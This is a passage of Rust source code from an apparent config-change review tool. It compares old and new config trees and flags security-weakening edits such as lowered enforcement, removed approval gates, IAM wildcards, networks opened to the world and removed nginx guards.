        let Change::Removed(p, x) = c else { continue };
        let sp = segments(p);
        for d in changes {
            let Change::Added(q, y) = d else { continue };
            if x != y && !pinned(x, y) {
                continue;
            }
            let sq = segments(q);
            if sp.len() != sq.len() {
                continue;
            }
            let diff: Vec<usize> = (0..sp.len()).filter(|&i| sp[i] != sq[i]).collect();
            if let [i] = diff[..] {
                *votes.entry((i, sp[i].clone(), sq[i].clone())).or_insert(0) += 1;
            }
        }
    }
    votes
}

/// The differences between two trees once the keys the change renamed are
/// followed: the old tree is read with each renamed key (and each value
/// that names it, as `needs: [lint]` does) under its new name, so a job
/// renamed along with every reference to it is no difference at all, and a
/// job renamed and changed shows only its change. Values are followed only
/// under keys that point at other keys (`needs`, `dependencies`, `extends`). A rename counts when at
/// least two leaves moved under it (or its whole subtree was one leaf) and
/// its old name went to one new name only.
pub(crate) fn effective_changes(old: &Flat, new: &Flat) -> Vec<Change> {
    let changes = compare(old, new);
    let mut votes: Vec<((usize, String, String), u32)> =
        renamed_keys(&changes).into_iter().collect();
    // Most leaves first; each old name and each new name is taken once.
    votes.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
    let segments = |k: &str| -> Vec<String> {
        k.split(['.', '[', ']'])
            .filter(|s| !s.is_empty())
            .map(str::to_string)
            .collect()
    };
    let under = |flat: &Flat, depth: usize, x: &str| {
        flat.keys()
            .filter(|k| segments(k).get(depth).is_some_and(|s| s == x))
            .count() as u32
    };
    // (depth, old name) → new name.
    let mut map: HashMap<(usize, &str), &str> = HashMap::new();
    for ((d, x, y), n) in &votes {
        if map.contains_key(&(*d, x.as_str())) || map.iter().any(|(k, v)| k.0 == *d && v == y) {
            continue;
        }
        // One shared leaf between two big subtrees is a coincidence, and a
        // name still used at that depth on the new side was not renamed.
        if *n < 2 && under(old, *d, x) > 1 || under(new, *d, x) > 0 {
            continue;
        }
        map.insert((*d, x), y);
    }
    if map.is_empty() {
        return changes;
    }
    let by_name: HashMap<&str, &str> = map.iter().map(|((_, x), y)| (*x, *y)).collect();
    // Values are renamed only where they point at another key.
    let reference = |s: &str| {
        matches!(
            s.to_ascii_lowercase().as_str(),
            "needs"
                | "dependencies"
                | "depends_on"
                | "depends-on"
                | "extends"
                | "requires"
                | "after"
                | "before"
        )
    };
    let rename_path = |k: &str| -> String {
        let mut out = String::with_capacity(k.len());
        let mut word = String::new();
        let mut depth = 0;
        let mut pointing = false;
        for c in k.chars().chain(std::iter::once('.')) {
            if matches!(c, '.' | '[' | ']') {
                if word.is_empty() {
                    out.push(c);
                    continue;
                }
                let by_depth = map.get(&(depth, word.as_str())).copied();
                // `needs[lint]`: a list element named by the key it points at.
                let by_value = if pointing {
                    by_name.get(word.as_str()).copied()
                } else {
                    None
                };
                pointing = reference(&word);
                out.push_str(by_depth.or(by_value).unwrap_or(&word));
                word.clear();
                depth += 1;
                out.push(c);
            } else {
                word.push(c);
            }
        }
        out.pop();
        out
    };
    let renamed: Flat = old
        .iter()
        .map(|(k, v)| {
            let value = match by_name.get(v.as_str()) {
                Some(y) if k.split(['.', '[', ']']).any(reference) => (*y).to_string(),
                _ => v.clone(),
            };
            (rename_path(k), value)
        })
        .collect();
    compare(&renamed, new)
}

/// True when a YAML file's tree changed only in what nothing runs
/// differently for: names and descriptions, caches (a `cache:` block, a
/// `GOMODCACHE` variable, a template of cache settings only and jobs
/// extending it), and paths that skip
/// docs-only changes (`paths-ignore: ["**/*.md"]`), once renamed keys are
/// followed. A CI job renamed with every `needs` updated, or given a cache,
/// deploys exactly what it deployed before.
pub(crate) fn only_cosmetic(f: &FileView<'_>) -> bool {
    if Format::of(f.path) != Some(Format::Yaml) {
        return false;
    }
    let Some(c) = f.contents else { return false };
    let (Some(old), Some(new)) = (c.minus.as_deref(), c.plus.as_deref()) else {
        return false;
    };
    let (Some(a), Some(b)) = (flatten(Format::Yaml, old), flatten(Format::Yaml, new)) else {
        return false;
    };
    let changes = effective_changes(&a, &b);
    let docs_glob = |v: &str| {
        let v = v.to_ascii_lowercase();
        [".md", ".rst", ".txt", ".adoc"]
            .iter()
            .any(|e| v.ends_with(e))
            || v.starts_with("docs/")
            || v.starts_with("doc/")
            || v.contains("/docs/")
    };
    !changes.is_empty()
        && changes.iter().all(|c| {
            let (p, v) = match c {
                Change::Removed(p, v) | Change::Added(p, v) | Change::Changed(p, _, v) => (p, v),
            };
            let segs = segments(p);
            let key = segs.last().copied().unwrap_or("");
            matches!(key, "name" | "description" | "display_name" | "displayName")
                || segs.iter().any(|s| s.eq_ignore_ascii_case("cache"))
                || cache_variable(&segs)
                || p.starts_with('.') && segs.first().is_some_and(|t| cache_template(&b, t))
                || key == "extends" && v.strip_prefix('.').is_some_and(|t| cache_template(&b, t))
                || segs.contains(&"paths-ignore") && docs_glob(v)
        })
}

/// The segments of a flattened path: `jobs.test.needs[lint]` → jobs, test,
/// needs, lint.
fn segments(path: &str) -> Vec<&str> {
    path.split(['.', '[', ']'])
        .filter(|s| !s.is_empty())
        .collect()
}

/// A pipeline variable that points a tool at its cache (`variables.GOMODCACHE`,
/// `env.PIP_CACHE_DIR`).
fn cache_variable(segs: &[&str]) -> bool {
    let Some((name, parents)) = segs.split_last() else {
        return false;
    };
    parents.iter().any(|p| matches!(*p, "variables" | "env"))
        && (name.ends_with("CACHE") || name.ends_with("CACHE_DIR"))
}

/// A hidden template (`.go-cache:`, named here without its dot) whose
/// every setting sits under a `cache` key: a job extending it gets a cache
/// and nothing else.
fn cache_template(tree: &Flat, name: &str) -> bool {
    let mut leaves = tree
        .keys()
        .filter(|k| k.starts_with('.'))
        .map(|k| segments(k))
        .filter(|s| s.first() == Some(&name))
        .peekable();
    leaves.peek().is_some()
        && leaves.all(|s| s.iter().skip(1).any(|x| x.eq_ignore_ascii_case("cache")))
}

/// Istio-style authorization policies (`AuthorizationPolicy`, action ALLOW):
/// a rule the change adds without a `from` matches every caller, so the
/// paths it names are open to anyone who can reach the workload.
fn allow_rule_without_source(f: &FileView<'_>, a: &Flat, b: &Flat, out: &mut Vec<Finding>) {
    let kind = b.get("kind").map(String::as_str);
    let action = b.get("spec.action").map(|s| s.to_ascii_uppercase());
    if kind != Some("AuthorizationPolicy") || action.as_deref().is_some_and(|x| x != "ALLOW") {
        return;
    }
    let rules = |m: &Flat| -> Vec<String> {
        let mut ids: Vec<String> = m
            .keys()
            .filter_map(|k| k.strip_prefix("spec.rules["))
            .filter_map(|rest| rest.split_once(']').map(|(id, _)| id.to_string()))
            .collect();
        ids.dedup();
        ids
    };
    let before = rules(a);
    for id in rules(b) {
        let prefix = format!("spec.rules[{id}]");
        let subtree: Vec<(&String, &String)> =
            b.iter().filter(|(k, _)| k.starts_with(&prefix)).collect();
        let was: Vec<(&String, &String)> =
            a.iter().filter(|(k, _)| k.starts_with(&prefix)).collect();
        if before.contains(&id) && subtree == was {
            continue;
        }
        if subtree
            .iter()
            .any(|(k, _)| k[prefix.len()..].starts_with(".from"))
        {
            continue;
        }
        let paths: Vec<&str> = subtree
            .iter()
            .filter(|(k, _)| k.contains(".paths"))
            .map(|(_, v)| v.as_str())
            .collect();
        out.push(Finding::added(
            "authz-allow-any-source",
            Severity::High,
            f.path,
            locate(f, "paths", paths.first().copied().unwrap_or(""), true).or(f.added.first().map(|l| l.no)),
            format!(
                "An ALLOW rule without `from` matches every caller: {} open to anyone who can reach the workload, whatever the other rules restrict.",
                if paths.is_empty() {
                    "everything it names is".to_string()
                } else {
                    format!("`{}` is", quote(&paths.join(", ")))
                }
            ),
        ));
        return;
    }
}

/// Whether the flag that `path` rolls out was already at `value` (or more)
/// in production before the change (`….overrides.production.rollout: 100`
/// beside a `default.rollout` that jumps to 100): production's share does
/// not move, only the environments that followed the default do.
fn production_already_at(before: &Flat, path: &str, value: f64) -> bool {
    static PROD_SEGMENT: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"(?i)^(prod|production|live)$").unwrap());
    // The flag's own prefix: what comes before `default`, or the rollout's
    // parent.
    let segments: Vec<&str> = path.split('.').collect();
    let flag_len = segments
        .iter()
        .position(|s| s.eq_ignore_ascii_case("default"))
        .unwrap_or(segments.len().saturating_sub(2));
    if flag_len == 0 {
        return false;
    }
    let flag = segments[..flag_len].join(".");
    before.iter().any(|(k, v)| {
        let Some(rest) = k.strip_prefix(&flag).and_then(|r| r.strip_prefix('.')) else {
            return false;
        };
        let parts: Vec<&str> = rest.split('.').collect();
        let in_production = parts.iter().any(|s| PROD_SEGMENT.is_match(s));
        let rollout = parts
            .last()
            .is_some_and(|l| ROLLOUT_KEY.is_match(l) || PROD_SEGMENT.is_match(l));
        in_production && rollout && number(v).is_some_and(|n| n >= value)
    })
}

/// Findings from comparing a structured config's trees; the second list holds
/// every value change (for the intent check).
pub fn check(
    f: &FileView<'_>,
    change: &ChangeView<'_>,
    out: &mut Vec<Finding>,
    changes_seen: &mut Vec<Finding>,
) {
    let Some(format) = Format::of(f.path) else {
        return;
    };
    if f.class.test_like() || f.class.docs || f.class.vendored {
        return;
    }
    if format == Format::Nginx {
        let start = out.len();
        nginx(f, out);
        kept_in_included_files(f, change, start, out);
        return;
    }
    let name = f
        .path
        .rsplit('/')
        .next()
        .unwrap_or(f.path)
        .to_ascii_lowercase();
    if name.contains("renovate") || name.contains("dependabot") {
        return;
    }
    let (old, new) = match f.contents {
        Some(c) => (c.minus.clone(), c.plus.clone()),
        None => return,
    };
    let (Some(old), Some(new)) = (old, new) else {
        return;
    };
    let (Some(a), Some(b)) = (flatten(format, &old), flatten(format, &new)) else {
        return;
    };
    let prod_file = !NOT_PRODUCTION.is_match(f.path);
    allow_rule_without_source(f, &a, &b, out);
    trust_anchor_removed(f, &a, &b, out);
    privileged_field_writable(f, &a, &b, out);
    let changes = effective_changes(&a, &b);
    let created = std::sync::OnceLock::new();
    // A value renamed under a new key is a move: skip Removed+Added pairs with the same value and last key.
    for c in &changes {
        let (path, before, after) = match c {
            Change::Changed(p, x, y) => (p, Some(x.as_str()), Some(y.as_str())),
            Change::Removed(p, x) => {
                if changes.iter().any(|d| {
                    matches!(d, Change::Added(q, y) if (y == x || pinned(x, y)) && last_key(q) == last_key(p))
                }) {
                    continue;
                }
                (p, Some(x.as_str()), None)
            }
            Change::Added(p, y) => {
                if changes.iter().any(|d| {
                    matches!(d, Change::Removed(q, x) if (y == x || pinned(x, y)) && last_key(q) == last_key(p))
                }) {
                    continue;
                }
                (p, None, Some(y.as_str()))
            }
        };
        let key = last_key(path);
        let line_new = after.and_then(|v| locate(f, path, v, true));
        let line_old = before.and_then(|v| locate(f, path, v, false));
        let mut push = |rule: &str, sev: Severity, msg: String| match line_new {
            Some(l) => out.push(Finding::added(rule, sev, f.path, Some(l), msg)),
            None => out.push(Finding::removed(rule, sev, f.path, line_old, msg)),
        };
        // A CI job's or step's display name is what a rename renames; its
        // cache settings decide how fast it runs, not what it runs.
        // Anywhere, a description is words for people (a dbt column's, an
        // OpenAPI operation's, a chart's).
        let label = f.class.ci
            && (matches!(key, "name" | "display_name" | "displayName")
                || path
                    .split(['.', '['])
                    .any(|s| s == "cache" || s.starts_with("cache_")))
            || matches!(
                key,
                "description" | "summary" | "help" | "comment" | "doc" | "docs"
            );
        // A value the change moved into a file it creates (steps into a
        // composite action, resources into a module) is still set.
        let moved_out = before.is_some_and(|x| {
            created
                .get_or_init(|| values_of_created_files(change, format))
                .contains(&(key.to_string(), with_variables_blanked(x)))
        });
        if let (Some(x), Some(y)) = (before, after) {
            if !moved_out
                && !renamed_reference(path, x, y)
                && !pinned(x, y)
                && !label
                && !renamed_name(key, x, y)
                && !change.follows_moved_file(Some(x), Some(y))
            {
                changes_seen.push(Finding::added(
                    "config-value-changed",
                    Severity::Low,
                    f.path,
                    line_new,
                    format!(
                        "`{}` is now {} (before: {})",
                        quote(path),
                        quote(y),
                        quote(x)
                    ),
                ));
            }
        } else if let Some(x) = before
            && !label
            && !moved_out
            // A reference to a file the change renamed, replaced by one to
            // its new name (a kustomize resource, an include).
            && !changes.iter().any(|d| {
                matches!(d, Change::Added(_, y) if change.follows_moved_file(Some(x), Some(y)))
            })
            // An empty key that now holds settings (`pull_request:` →
            // `pull_request: {paths-ignore: …}`) is still there.
            && !(matches!(x.trim(), "null" | "~" | "" | "{}")
                && b.keys()
                    .any(|k| k.len() > path.len() && k.starts_with(path.as_str()) && matches!(k.as_bytes()[path.len()], b'.' | b'[')))
        {
            changes_seen.push(Finding::removed(
                "config-value-changed",
                Severity::Low,
                f.path,
                line_old,
                format!("`{}` (was {}) is gone", quote(path), quote(x)),
            ));
        }
        // An enforcement mode lowered: `STRICT` → `PERMISSIVE`, `block` →
        // `detect`, `enforce` → `dryrun`, `verify-full` → `prefer`.
        if let (Some(x), Some(y)) = (before, after)
            && enforcement_lowered(x, y)
        {
            push(
                "config-enforcement-lowered",
                Severity::High,
                format!(
                    "`{}` is now {} (before: {}): what was enforced is only allowed, logged or reported now.",
                    quote(path),
                    quote(y),
                    quote(x)
                ),
            );
            continue;
        }
        // A check that now fails open.
        if fails_open(key, before, after) {
            push(
                "config-fail-open",
                Severity::High,
                format!(
                    "`{}` is now {} (before: {}): when the service that checks requests is slow or down, they now go through unchecked.",
                    quote(path),
                    quote(after.unwrap_or("unset")),
                    quote(before.unwrap_or("unset"))
                ),
            );
            continue;
        }
        // Security switches turned the unsafe way. A CI step allowed to
        // fail is read by the delivery rules, which know the step (an
        // upload may fail; a test may not).
        let ci_failure_switch = f.class.ci
            && ["continue-on-error", "allow_failure"]
                .iter()
                .any(|k| key.eq_ignore_ascii_case(k));
        let on = switch_on_is_safe(key).filter(|_| !ci_failure_switch);
        let weakened = match (before, after) {
            (Some(x), Some(y)) => {
                on == Some(true) && truthy(x) && falsy(y)
                    || on == Some(false) && !truthy(x) && truthy(y)
            }
            (Some(x), None) => on == Some(true) && truthy(x) && !key.eq_ignore_ascii_case("lint"),
            (None, Some(y)) => on == Some(false) && truthy(y),
            _ => false,
        };
        if weakened && !tls_upgrade_in_scheme(f, key) {
            push(
                "config-safety-off",
                Severity::High,
                match (before, after) {
                    (Some(x), Some(y)) => format!(
                        "`{}` is now {} (before: {}): a safety switch turned off.",
                        quote(path),
                        quote(y),
                        quote(x)
                    ),
                    (Some(x), None) => format!(
                        "`{}` (was {}) is gone: the default may be the unsafe one.",
                        quote(path),
                        quote(x)
                    ),
                    (None, Some(y)) => format!(
                        "`{}: {}` is new: it switches a safeguard off.",
                        quote(path),
                        quote(y)
                    ),
                    _ => unreachable!(),
                },
            );
            continue;
        }
        // Approvals and manual gates removed.
        // A job dependency (`needs`) is an approval only when the job it
        // waits for is one (a manual gate); waiting for checks is the
        // pipeline graph's business.
        let dependency_on_approval = !key.eq_ignore_ascii_case("needs")
            && !path.contains(".needs[")
            || before.is_some_and(|x| APPROVAL_JOB.is_match(x));
        if APPROVAL_KEY.is_match(key)
            && dependency_on_approval
            && (f.class.ci
                || f.path.contains("deploy")
                || f.path.contains("pipeline")
                || f.path.contains("release"))
        {
            // A scalar written out as a map of the same name (`environment:
            // publish` → `environment: {name: publish, url: …}`) is kept.
            let spelled_out = before.is_some_and(|x| {
                b.get(&format!("{path}.name"))
                    .is_some_and(|n| n.trim_matches(['"', '\'']) == x.trim_matches(['"', '\'']))
            });
            let gone = match (before, after) {
                (Some(_), None) if spelled_out => false,
                (Some(x), None) => !falsy(x) && !job_gone(path, &a, &b),
                (Some(x), Some(y)) => {
                    (x.eq_ignore_ascii_case("manual") && !y.eq_ignore_ascii_case("manual"))
                        || number(x)
                            .zip(number(y))
                            .is_some_and(|(a, b)| b < a && b < 1.0)
                }
                _ => false,
            };
            if gone {
                push(
                    "config-approval-removed",
                    Severity::High,
                    format!(
                        "`{}` ({}) is {}: the deploy no longer waits for a person to approve it.",
                        quote(path),
                        quote(before.unwrap_or("")),
                        after.map_or("gone".to_string(), |y| format!("now {}", quote(y)))
                    ),
                );
                continue;
            }
        }
        // Branch filters widened. A condition (`if`, `rules`) filters
        // branches only when it reads one (`github.ref`, `CI_COMMIT_BRANCH`);
        // `github.event.action != 'labeled'` picks events, not branches.
        let condition_key = path
            .rsplit('.')
            .next()
            .is_some_and(|k| k == "if" || k.starts_with("rules"));
        // (`if: false` switched the job off everywhere: removing it is one.)
        let reads_branch = |v: &str| {
            let lower = v.to_ascii_lowercase();
            falsy(v)
                || ["ref", "branch", "tag", "main", "master", "release"]
                    .iter()
                    .any(|w| lower.contains(w))
        };
        if BRANCH_KEY.is_match(path)
            && (f.class.ci || f.path.contains("deploy"))
            && (!condition_key || before.is_some_and(reads_branch))
        {
            let wide = |v: &str| {
                matches!(
                    v.trim(),
                    "*" | "**" | ".*" | "'*'" | "\"*\"" | "/.*/" | "*/*"
                )
            };
            let widened = match (before, after) {
                (Some(x), Some(y)) => wide(y) && !wide(x),
                (None, Some(y)) => wide(y),
                (Some(x), None) => {
                    !wide(x)
                        && !job_gone(path, &a, &b)
                        && !trigger_gone(path, &b)
                        && !b.keys().any(|k| {
                            BRANCH_KEY.is_match(k)
                                && k.starts_with(path.split('[').next().unwrap_or(path))
                        })
                }
                _ => false,
            };
            if widened {
                push(
                    "config-branch-widened",
                    Severity::High,
                    format!(
                        "`{}` no longer limits which branches this runs for (before: {}): it now runs for every branch.",
                        quote(path),
                        quote(before.unwrap_or("only some branches"))
                    ),
                );
                continue;
            }
        }
        // A liveness probe that now checks dependencies, or gives up at the
        // first slow answer: a database blip restarts every pod at once.
        if path.contains("livenessProbe")
            && let Some(y) = after
            && before != after
        {
            let deep = key == "path" && LIVENESS_DEEP.is_match(y);
            let hair = key.eq_ignore_ascii_case("failureThreshold")
                && number(y).is_some_and(|n| n <= 1.0)
                && before.and_then(number).is_none_or(|n| n > 1.0);
            if deep || hair {
                push(
                    "k8s-liveness-fragile",
                    Severity::High,
                    format!(
                        "The liveness probe's `{}` is now {}: {}, and Kubernetes restarts every pod that fails it, all at once.",
                        quote(key),
                        quote(y),
                        if deep {
                            "it checks what the pod depends on, so a database or cache blip fails every pod together"
                        } else {
                            "one slow answer is a failure"
                        }
                    ),
                );
                continue;
            }
        }
        // Retries added in front of money: a POST that timed out after the
        // charge went through is sent again.
        // A health check's retries (Compose's `healthcheck.retries`, a
        // probe's) count failed checks; no request is sent again.
        static HEALTH_CHECK: LazyLock<Regex> = LazyLock::new(|| {
            Regex::new(r"(?i)(^|\.)(healthcheck|health_?check|health|liveness_?probe|readiness_?probe|startup_?probe)\.").unwrap()
        });
        if RETRY_POLICY.is_match(path)
            && before.is_none()
            && after.is_some()
            && !HEALTH_CHECK.is_match(path)
        {
            let cut = RETRY_POLICY.find(path).map_or(0, |m| m.start());
            let route = &path[..cut];
            let about_money = b
                .iter()
                .filter(|(k, _)| k.starts_with(route) && !RETRY_POLICY.is_match(k))
                .any(|(_, v)| MONEY.is_match(v))
                || MONEY.is_match(route);
            let safe_only = b
                .iter()
                .filter(|(k, _)| k.starts_with(route))
                .any(|(_, v)| v.contains("GET") || v.to_ascii_lowercase().contains("idempot"));
            // Retried only when the request never reached the service
            // (Envoy's and Istio's `connect-failure,refused-stream`): nothing
            // ran, so nothing runs twice.
            let undelivered_only = b
                .iter()
                .filter(|(k, _)| {
                    k.starts_with(route) && {
                        let leaf = k.rsplit('.').next().unwrap_or(k).to_ascii_lowercase();
                        leaf.replace(['_', '-'], "") == "retryon"
                    }
                })
                .any(|(_, v)| {
                    let conditions: Vec<&str> = v
                        .split([',', ' '])
                        .map(str::trim)
                        .filter(|c| !c.is_empty())
                        .collect();
                    !conditions.is_empty()
                        && conditions.iter().all(|c| {
                            matches!(
                                c.to_ascii_lowercase().as_str(),
                                "connect-failure"
                                    | "refused-stream"
                                    | "reset-before-request"
                                    | "conn-failure"
                                    | "http3-post-connect-failure"
                            )
                        })
                });
            if about_money && !safe_only && !undelivered_only {
                push(
                    "retry-not-idempotent",
                    Severity::High,
                    format!(
                        "Retries requests on a route that moves money (`{}`), whatever their method: a POST that succeeded but timed out on the answer is sent again.",
                        quote(path)
                    ),
                );
                continue;
            }
        }
        // An IAM statement that allows a powerful action on every resource.
        // In a KMS key's own policy, `Resource: *` means that key.
        if key.eq_ignore_ascii_case("resource")
            && after.is_some_and(|y| y.trim() == "*")
            && before.is_none_or(|x| x.trim() != "*")
            && !path.to_ascii_lowercase().contains("keypolicy")
        {
            // The statement's own prefix: `Statement[4].` of `Statement[4].Resource`.
            let stmt = path.rfind(key).map_or(path.as_str(), |at| &path[..at]);
            let sibling = |name: &str| {
                b.iter()
                    .filter(|(k, _)| {
                        k.strip_prefix(stmt)
                            .is_some_and(|rest| rest.to_ascii_lowercase().starts_with(name))
                    })
                    .map(|(_, v)| v.as_str())
                    .collect::<Vec<_>>()
            };
            let allow = sibling("effect")
                .iter()
                .all(|e| !e.eq_ignore_ascii_case("deny"));
            let actions = sibling("action");
            if let Some(action) = actions.iter().find(|a| IAM_POWERFUL.is_match(a))
                && allow
            {
                push(
                    "iam-resource-wildcard",
                    Severity::High,
                    format!(
                        "Allows `{}` on every resource (`{}` is now *): whoever holds this role can use it on anything in the account, admin roles included.",
                        quote(action),
                        quote(path)
                    ),
                );
                continue;
            }
        }
        // Rollouts jumped to everyone. In a file about flags or rollouts, a
        // value under an environment's name (`production: 100`) is that
        // environment's rollout.
        let env_rollout = ENV_NAME.is_match(key) && FLAG_FILE.is_match(f.path);
        if (ROLLOUT_KEY.is_match(key) || env_rollout)
            && let (Some(x), Some(y)) = (before.and_then(number), after.and_then(number))
            && (y >= 100.0 || (y == 1.0 && x < 1.0))
            && x < y
        {
            let prod = (prod_file && !NOT_PRODUCTION.is_match(path) || PRODUCTION.is_match(path))
                && !production_already_at(&a, path, y);
            push(
                "config-rollout-jump",
                if prod {
                    Severity::High
                } else {
                    Severity::Medium
                },
                format!(
                    "`{}` jumps from {} to {}: everyone gets it at once, with no stage to catch a problem.",
                    quote(path),
                    before.unwrap_or(""),
                    after.unwrap_or("")
                ),
            );
            continue;
        }
        // Network opened to the world.
        if let Some(y) = after
            && network_key(path)
            && (y.contains("0.0.0.0/0") || y.contains("::/0") || y.trim() == "*")
            && before.is_none_or(|x| x != y)
        {
            push(
                "config-open-network",
                Severity::High,
                format!(
                    "`{}` is now {}: open to every address on the internet.",
                    quote(path),
                    quote(y)
                ),
            );
            continue;
        }
        // Rate limits removed or switched off.
        if LIMIT_KEY.is_match(path) {
            let gone = match (before, after) {
                (Some(x), None) => !falsy(x),
                (Some(x), Some(y)) => {
                    falsy(y) && !falsy(x)
                        || number(x)
                            .zip(number(y))
                            .is_some_and(|(a, b)| a > 0.0 && b >= a * 10.0)
                }
                _ => false,
            };
            if gone {
                push(
                    "config-limit-removed",
                    Severity::High,
                    format!(
                        "`{}` ({}) is {}: nothing limits how hard clients can hit this any more.",
                        quote(path),
                        quote(before.unwrap_or("")),
                        after.map_or("gone".to_string(), |y| format!("now {}", quote(y)))
                    ),
                );
                continue;
            }
        }
        // Retries and timeouts widened.
        if RETRY_KEY.is_match(key)
            && let (Some(x), Some(y)) = (before.and_then(number), after.and_then(number))
            && y > x
            && (y >= x * 3.0 || key.to_ascii_lowercase().contains("retr") && x <= 1.0)
        {
            let money = MONEY.is_match(path) || MONEY.is_match(f.path);
            push(
                "config-retry-widened",
                if money && key.to_ascii_lowercase().contains("retr") {
                    Severity::High
                } else {
                    Severity::Medium
                },
                format!(
                    "`{}` goes from {} to {}{}.",
                    quote(path),
                    before.unwrap_or(""),
                    after.unwrap_or(""),
                    if money {
                        ": a call that moves money may now run more than once"
                    } else {
                        ": failures now take longer to surface, and pile up load while they do"
                    }
                ),
            );
        }
    }
}

/// Whether a TLS switch turned off (`start_tls: false`, `ssl: false`) goes
/// with the change moving its connections to a scheme that is encrypted
/// from the first byte (`ldap://` → `ldaps://`, `redis://` → `rediss://`):
/// the connection is still encrypted, by the transport now.
pub(crate) fn tls_upgrade_in_scheme(f: &FileView<'_>, key: &str) -> bool {
    static TLS_KEY: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"(?i)(start_?tls|\btls\b|_tls\b|\bssl\b|_ssl\b|use_?ssl|use_?tls)").unwrap()
    });
    static PLAIN: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"(?i)\b(ldap|redis|amqp|mqtt|nats|ftp|smtp|imap|http)://").unwrap()
    });
    static ENCRYPTED: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"(?i)\b(ldaps|rediss|amqps|mqtts|tls|ftps|smtps|imaps|https)://").unwrap()
    });
    TLS_KEY.is_match(key)
        && f.removed_code().any(|l| PLAIN.is_match(l.text))
        && f.added_code().any(|l| ENCRYPTED.is_match(l.text))
        && !f.added_code().any(|l| PLAIN.is_match(l.text))
}

static NGINX_GUARD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"^\s*(deny\s|limit_req\b|limit_conn\b|limit_rate\b|auth_basic\b|auth_request\b|auth_jwt\b|ssl_verify_client\s+on|proxy_ssl_verify\s+on|satisfy\s+all|add_header\s+["']?(Strict-Transport-Security|Content-Security-Policy|X-Frame-Options)["']?\s|client_max_body_size|rate_limit|basicauth|basic_auth\b|forward_auth)"#).unwrap()
});
static NGINX_OPEN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^\s*(allow\s+(all|0\.0\.0\.0/0|::/0)\s*;|proxy_ssl_verify\s+off|ssl_verify_client\s+off|auth_basic\s+off|satisfy\s+any|autoindex\s+on)").unwrap()
});

fn directive(t: &str) -> String {
    t.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The new side's body of the location block that line `old_no` of the
/// old side sat in (found by its header line), with the file's new text.
fn location_now<'a>(f: &'a FileView<'_>, old_no: u32) -> Option<(Vec<&'a str>, &'a str)> {
    let (old, new) = (f.old_text()?, f.new_text()?);
    let old_lines: Vec<&str> = old.lines().collect();
    let at = (old_no as usize).saturating_sub(1).min(old_lines.len());
    let indent = |l: &str| l.len() - l.trim_start().len();
    let own = old_lines.get(at).map_or(0, |l| indent(l));
    let header = old_lines[..at]
        .iter()
        .rev()
        .find(|l| indent(l) < own && l.trim_start().starts_with("location") && l.contains('{'))?;
    let new_lines: Vec<&str> = new.lines().collect();
    let start = new_lines.iter().position(|l| l.trim() == header.trim())?;
    Some((brace_block(&new_lines, start), new))
}

/// Whether the location block an old line sat in now only answers with a
/// fixed status (`return 410;`) and passes nothing on: a guard in front of
/// nothing protects nothing.
fn location_now_serves_nothing(f: &FileView<'_>, old_no: u32) -> bool {
    static SERVES: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"^\s*(proxy_pass|fastcgi_pass|uwsgi_pass|grpc_pass|scgi_pass|root|alias|try_files|index|reverse_proxy|file_server|include)\b").unwrap()
    });
    static FIXED: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"^\s*return\s+(30[12378]|4\d\d)\b").unwrap());
    let Some((body, _)) = location_now(f, old_no) else {
        return false;
    };
    body.iter().skip(1).any(|l| FIXED.is_match(l))
        && !body.iter().skip(1).any(|l| SERVES.is_match(l))
}

/// Whether the location block a removed `deny` sat in now refuses, itself,
/// whoever a `geo` map of client addresses marks (`geo $internal_client {
/// default 0; 10.0.0.0/8 1; }` and `if ($internal_client = 0) { return
/// 403; }`): the address list moved into the map, still enforced here.
fn location_refuses_by_address(f: &FileView<'_>, old_no: u32, removed: &str) -> bool {
    static REFUSAL_IF: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"^\s*if\s*\(\s*\$(\w+)\b[^)]*\)\s*\{").unwrap());
    static REFUSE: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"^\s*return\s+4\d\d\b").unwrap());
    if !removed.trim_start().starts_with("deny") {
        return false;
    }
    let Some((body, new)) = location_now(f, old_no) else {
        return false;
    };
    body.iter().enumerate().any(|(i, l)| {
        REFUSAL_IF.captures(l).is_some_and(|c| {
            let var = &c[1];
            let mapped = Regex::new(&format!(
                r"(?m)^\s*(geo\s+(\$\w+\s+)?\${var}|map\s+\$(remote_addr|realip_remote_addr|binary_remote_addr)\s+\${var})\s*\{{"
            ))
            .is_ok_and(|r| r.is_match(new));
            mapped && body.iter().skip(i + 1).take(2).any(|x| REFUSE.is_match(x))
        })
    })
}

/// Directives matching `guard` that the change removes or comments out
/// (and does not write again anywhere in the file): `config-guard-removed`,
/// naming the `block` they protected. Shared by every directive-per-line
/// config (nginx, Caddy, HAProxy, Apache).
pub(crate) fn guards_removed(f: &FileView<'_>, guard: &Regex, block: &str, out: &mut Vec<Finding>) {
    let live = |t: &str| !t.trim_start().starts_with('#');
    // Directives written into a Caddy snippet apply only where it is
    // imported: that is asked per site below.
    let snippet_lines = caddy_snippet_lines(f.new_text());
    let added: Vec<String> = f
        .added
        .iter()
        .filter(|l| live(l.text) && !snippet_lines.contains(&l.no))
        .map(|l| directive(l.text))
        .collect();
    // A header written again with another value (`add_header
    // Content-Security-Policy "…"` gaining a `report-uri`) is still sent.
    let head = header_set;
    let guards_added: Vec<Option<String>> = f
        .added
        .iter()
        .filter(|l| live(l.text) && guard.is_match(l.text))
        .map(|l| head(l.text))
        .collect();
    for l in f
        .removed
        .iter()
        .filter(|l| live(l.text) && guard.is_match(l.text))
    {
        if added.contains(&directive(l.text))
            || head(l.text).is_some_and(|h| guards_added.contains(&Some(h)))
        {
            continue;
        }
        if location_now_serves_nothing(f, l.no)
            || kept_in_imported_snippet(f, l.no, l.text)
            || location_refuses_by_address(f, l.no, l.text)
        {
            continue;
        }
        // An HAProxy ACL whose values moved into a pattern file (`acl admin
        // src 10.0.0.0/8 …` → `acl admin src -f admin.lst`): the same name
        // and test, read from the file; HAProxy refuses to start without it.
        let head: Vec<&str> = l.text.split_whitespace().take(3).collect();
        if head.len() == 3
            && head[0] == "acl"
